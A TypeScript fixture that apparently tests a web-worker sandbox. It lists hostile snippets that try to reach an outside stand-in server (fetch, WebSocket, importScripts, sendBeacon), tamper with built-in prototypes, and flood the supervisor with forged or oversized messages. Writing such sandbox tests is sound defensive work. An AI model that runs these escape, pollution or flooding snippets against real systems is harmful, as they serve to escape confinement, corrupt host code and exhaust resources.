/**
 * Hostile scripts, as they would stand in the glue of a component: each is the body of an async function that comes back
 * with something if it got what it wanted, and throws or comes back empty if not.
 */

/** Ways out of a worker, and what it might take along. `OUTSIDE` and `INSIDE` are the addresses of two servers. */
export const escapes: Readonly<Record<string, string>> = {
  fetch: "await fetch(OUTSIDE, { mode: 'no-cors' }); return true",
  "fetch of the app": "await fetch(INSIDE + 'bootstrap.json', { mode: 'no-cors' }); return true",
  "fetch that outlives": "await fetch(OUTSIDE, { mode: 'no-cors', keepalive: true }); return true",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', OUTSIDE, false); x.send(); return true",
  WebSocket:
    "return new Promise((yes, no) => { const s = new WebSocket(OUTSIDE.replace('http', 'ws')); s.onopen = yes; s.onerror = no; })",
  WebSocketStream: "await new WebSocketStream(OUTSIDE.replace('http', 'ws')).opened; return true",
  EventSource:
    "return new Promise((yes, no) => { const s = new EventSource(OUTSIDE); s.onopen = yes; s.onerror = no; })",
  WebTransport: "await new WebTransport(OUTSIDE.replace('http:', 'https:')).ready; return true",
  RTCPeerConnection:
    "new RTCPeerConnection({ iceServers: [{ urls: OUTSIDE.replace('http://', 'stun:').replace('/', '') }] }).createDataChannel('x'); return true",
  "import()": "await import(OUTSIDE); return true",
  "import() of data": "await import('data:text/javascript,export default 1'); return true",
  importScripts: "importScripts(OUTSIDE); return true",
  "importScripts of data": "importScripts('data:text/javascript,0'); return true",
  sendBeacon: "return navigator.sendBeacon(OUTSIDE, 'x')",
  Image: "new Image().src = OUTSIDE; return true",
  FontFace: "await new FontFace('x', `url(${OUTSIDE})`).load(); return true",
  "streaming compilation": "await WebAssembly.compileStreaming(fetch(OUTSIDE)); return true",
  "Worker from outside":
    "return new Promise((yes, no) => { const w = new Worker(OUTSIDE); w.onmessage = yes; w.onerror = no; })",
  SharedWorker: "new SharedWorker(OUTSIDE); return true",
  indexedDB: "return new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })",
  caches: "await caches.open('x'); return true",
  localStorage: "localStorage.x = 1; return true",
  cookieStore: "await cookieStore.set('x', '1'); return true",
  cookies: "document.cookie = 'x=1'; return true",
  "origin-private files": "await navigator.storage.getDirectory(); return true",
  locks: "return await navigator.locks.request('x', () => true)",
  "service worker": "await navigator.serviceWorker.register(OUTSIDE); return true",
  Notification: "new Notification('x'); return Notification.permission === 'granted'",
  "serial ports": "return (await navigator.serial.getPorts()) && true",
  "USB devices": "return (await navigator.usb.getDevices()) && true",
  parent: "parent.document; return true",
  top: "top.location = OUTSIDE; return true",
  opener: "opener.location = OUTSIDE; return true",
  open: "return open(OUTSIDE)",
  document: "return document.body",
  eval: "return (0, eval)('true')",
  Function: "return Function('return 1')()",
  "constructor of async functions": "return await (async () => {}).constructor('return 1')()",
  "constructor of generators": "return (function* () {}).constructor('yield 1')().next().value",
};

/** What a worker has without any wall being broken, but what no guest may have. */
export const forbiddenThings: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    [
      ...["Date", "performance", "Intl", "Temporal", "WeakRef", "FinalizationRegistry", "SharedArrayBuffer", "Atomics"],
      ...["setTimeout", "setInterval", "queueMicrotask", "requestAnimationFrame", "scheduler", "structuredClone"],
      ...[
        "crypto",
        "console",
        "navigator",
        "location",
        "origin",
        "name",
        "self",
        "reportError",
        "close",
        "postMessage",
      ],
      ...["onmessage", "onerror", "addEventListener", "dispatchEvent", "EventTarget", "MessageChannel", "MessagePort"],
      ...["Worker", "BroadcastChannel", "Blob", "URL", "File", "FileReader", "FileReaderSync", "OffscreenCanvas"],
      ...["createImageBitmap", "ReadableStream", "Response", "Request", "Headers", "AbortSignal", "trustedTypes"],
    ].map((name) => [name, `return typeof ${name} !== 'undefined'`]),
  ),
  "Math.random": "return Math.random",
  "names on the global's prototypes":
    "const found = []; for (let o = Object.getPrototypeOf(globalThis); o && o !== Object.prototype; o = Object.getPrototypeOf(o)) found.push(...Reflect.ownKeys(o).filter((k) => typeof o[k] !== 'number')); return found.map(String).join()",
  "call sites": "Error.prepareStackTrace = (_, sites) => sites; return Array.isArray(new Error().stack)",
};

/** Changes to what the host's code in the same worker stands on. */
export const pollutions: Readonly<Record<string, string>> = {
  "Object.prototype": "Object.prototype.polluted = 1; return ({}).polluted",
  "a getter on Object.prototype":
    "Object.defineProperty(Object.prototype, 'type', { get: () => 'end' }); return ({}).type",
  "Array.prototype.push": "const was = [].push; Array.prototype.push = () => 0; return [].push !== was",
  "Array iteration":
    "const was = [][Symbol.iterator]; Array.prototype[Symbol.iterator] = null; return [][Symbol.iterator] !== was",
  "the iterator's next":
    "const p = Object.getPrototypeOf([][Symbol.iterator]()); const was = p.next; p.next = () => ({ done: true }); return p.next !== was",
  "Uint8Array.prototype.set":
    "const was = new Uint8Array(1).set; Object.getPrototypeOf(Uint8Array.prototype).set = () => 0; return new Uint8Array(1).set !== was",
  "Map.prototype.get":
    "const was = new Map().get; Object.defineProperty(Map.prototype, 'get', { value: () => 1 }); return new Map().get !== was",
  "Promise.prototype.then":
    "const was = Promise.prototype.then; Promise.prototype.then = () => 0; return Promise.prototype.then !== was",
  "Function.prototype.call":
    "const was = Function.prototype.call; Function.prototype.call = () => 0; return Function.prototype.call !== was",
  "WebAssembly.Instance":
    "const was = WebAssembly.Instance; WebAssembly.Instance = 0; return WebAssembly.Instance !== was",
  "a memory's buffer":
    "Object.defineProperty(WebAssembly.Memory.prototype, 'buffer', { get: () => new ArrayBuffer(8) }); return new WebAssembly.Memory({ initial: 0 }).buffer.byteLength === 8",
  "the global Uint8Array": "const was = Uint8Array; globalThis.Uint8Array = 0; return Uint8Array !== was",
  "the global WebAssembly": "delete globalThis.WebAssembly; return typeof WebAssembly === 'undefined'",
  "TextDecoder.prototype.decode":
    "const was = new TextDecoder().decode; TextDecoder.prototype.decode = () => 'x'; return new TextDecoder().decode !== was",
  "a prototype's prototype": "const p = { x: 1 }; Object.setPrototypeOf(Array.prototype, p); return [].x",
  "Math.min": "const was = Math.min; Math.min = () => 0; return Math.min !== was",
};

/** One expression, an async function that tries them all and throws with the names of those that came through. */
export function hostileGlue(
  attacks: Readonly<Record<string, string>>,
  addresses: { outside: string; inside: string },
): string {
  const tries = Object.entries(attacks).map(([name, body]) => `  [${JSON.stringify(name)}, async () => { ${body} }],`);
  return `async () => {
    "use strict";
    const OUTSIDE = ${JSON.stringify(addresses.outside)}, INSIDE = ${JSON.stringify(addresses.inside)};
    let through = "";
    const tries = [\n${tries.join("\n")}\n];
    for (let i = 0; i < ${tries.length}; i++) {
      let got;
      try { got = await tries[i][1](); } catch {}
      if (got) through += (through && "; ") + tries[i][0] + (typeof got === "string" ? " " + got : "");
    }
    throw new Error("tried ${tries.length}, through: [" + through + "]");
  }`;
}

/**
 * What a worker that was taken over may say to the supervisor, beyond what `sandbox-words.test.ts` tries: bodies of async
 * functions that have its `port`.
 */
export const lies: Readonly<Record<string, string>> = {
  "a flood of small messages": "for (let i = 0; i < 1e6; i++) port.postMessage(i); return new Promise(() => {})",
  "a flood of batches":
    "for (let i = 0; i < 2e4; i++) port.postMessage({ type: 'output', batch: new ArrayBuffer(65536) }); return new Promise(() => {})",
  "256 MiB at once":
    "const b = new ArrayBuffer(2 ** 28); port.postMessage({ type: 'output', batch: b }, [b]); return new Promise(() => {})",
  "a deep object":
    "let o = {}; for (let i = 0; i < 700; i++) o = { o }; port.postMessage(o); return new Promise(() => {})",
  "a wide object":
    "port.postMessage(Array.from({ length: 1e6 }, (_, i) => ({ ['k' + (i % 1000)]: i }))); return new Promise(() => {})",
  "another end after its end":
    "for (let i = 0; i < 9; i++) port.postMessage({ type: 'end', end: { type: 'exit', code: i }, fuelUsed: 1e99, files: [], memoryPeakPages: 0 }); return new Promise(() => {})",
  "a word to the frame": "postMessage('hello'); return new Promise(() => {})",
  "a flood to the frame": "for (let i = 0; i < 1e5; i++) postMessage({ i }); return new Promise(() => {})",
};
